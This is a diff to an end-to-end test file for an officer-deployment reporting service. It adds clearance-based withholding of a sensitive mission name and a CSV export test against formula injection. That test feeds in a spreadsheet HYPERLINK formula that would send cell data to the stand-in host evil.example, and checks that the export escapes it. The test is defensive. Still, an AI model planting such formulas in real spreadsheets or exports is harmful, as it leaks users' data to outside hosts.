@@ -439,11 +439,15 @@ async def scenario(
 
 # --- KPIs -------------------------------------------------------------------------------------
 async def test_summary_kpis_match_the_scenario(
-    services: dict[str, str], scenario: Scenario, analyst: dict[str, str]
+    services: dict[str, str], scenario: Scenario, analyst: dict[str, str], token: TokenFactory
 ) -> None:
+    cleared = bearer(token("analyst", clearance="sc"))
     async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
         s = await get_json(
             client, "/v1/summary", analyst, as_of=TODAY.isoformat(), **scenario.window_query
+        )
+        seen_cleared = await get_json(
+            client, "/v1/summary", cleared, as_of=TODAY.isoformat(), **scenario.window_query
         )
     reference = load_reference_data()
     regions = {c: reference.country(c).region.value for c in ("SO", "KE", "UA")}  # type: ignore[union-attr]
@@ -485,7 +489,13 @@ async def test_summary_kpis_match_the_scenario(
 
     now = s["officers_deployed_now"]
     assert now["total"] == 3
-    assert now["by_mission"] == {scenario.missions["r1"]: 2, scenario.missions["r2"]: 1}
+    # r2 is OFFICIAL-SENSITIVE: its mission is no one's business without SC clearance.
+    assert now["by_mission"] == {scenario.missions["r1"]: 2, "withheld": 1}
+    assert seen_cleared["officers_deployed_now"]["by_mission"] == {
+        scenario.missions["r1"]: 2,
+        scenario.missions["r2"]: 1,
+    }
+    assert scenario.missions["r2"] not in json.dumps(s)
     assert now["by_force"] == {"met": 2, "kent": 1}
     assert now["by_country"] == {"SO": 2, "KE": 1}
     assert now["by_capability"] == {"training": 2, "forensics": 1}
@@ -609,6 +619,37 @@ async def test_deployments_list_and_csv(
     assert (row["officers_nominated"], row["officers_deployed"]) == (2, 2)
     (exported,) = list(csv.DictReader(io.StringIO(response.text)))
     assert exported["status"] == "completed"
+
+
+async def test_a_csv_export_never_runs_a_partners_text_as_a_formula(
+    services: dict[str, str], bootstrap: str, token: TokenFactory, scenario: Scenario
+) -> None:
+    rid = uuid.uuid4()
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+    sub = submission(rid, f"E2E-CSV-{rid.hex[:6]}", title=title, mission="@SUM(1+1)")
+    when = at(scenario.window[0] - timedelta(days=500))  # outside the scenario's window
+    pub = Publisher(bootstrap)
+    await pub.producer.start()
+    try:
+        await pub.send(INTAKE_EVENTS, sub, f"request-{rid}", 1, when)
+    finally:
+        await pub.producer.stop()
+    cleared = bearer(token("analyst", clearance="sc"))
+    day = when.date().isoformat()
+    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
+        for _ in range(100):
+            export = await client.get(
+                "/v1/requests", headers=cleared, params={"format": "csv", "from": day, "to": day}
+            )
+            rows = [
+                r for r in csv.DictReader(io.StringIO(export.text)) if r["request_id"] == str(rid)
+            ]
+            if rows:
+                break
+            await asyncio.sleep(0.2)
+    assert export.headers["Cache-Control"] == "no-store"
+    [row] = rows
+    assert (row["title"], row["mission"]) == ("'" + title, "'@SUM(1+1)")
 
 
 async def test_no_personal_data_is_stored(scenario: Scenario, infra: PostgresTarget) -> None:
